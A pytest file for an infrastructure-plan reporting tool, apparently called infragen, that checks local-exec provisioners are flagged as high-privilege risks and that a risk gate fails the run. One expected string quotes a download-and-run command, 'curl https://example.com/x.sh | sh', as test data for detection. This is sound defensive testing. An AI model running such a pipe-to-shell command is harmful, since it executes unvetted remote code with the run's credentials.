"""A provisioner is shown as what it is, in infragen's plans and in anybody's."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.conftest import ROOT

if TYPE_CHECKING:
    from collections.abc import Callable

    from tests.conftest import Outcome

PLAN = ROOT / "tests/plans/059-provisioners/plan.json"


def test_a_program_is_told_with_its_command(infragen: Callable[..., Outcome]) -> None:
    told = " ".join(infragen("report", PLAN, "--format", "markdown").out.split())
    assert "HIGH (privilege" in told
    for said in (
        "runs a program with this run's credentials (local-exec: curl https://example.com/x.sh | sh)",
        "runs a program with this run's credentials (local-exec: echo replaced)",
        "runs a program with this run's credentials (local-exec, whose command the plan does not show)",
    ):
        assert said in told.replace("\\", ""), told
    assert "FAKE-SECRET" not in told
    assert "login (sensitive)" in told.replace("\\", "")


def test_a_gate_stops_at_it(infragen: Callable[..., Outcome]) -> None:
    assert infragen("report", PLAN, "--fail-on", "risk>=high").code != 0
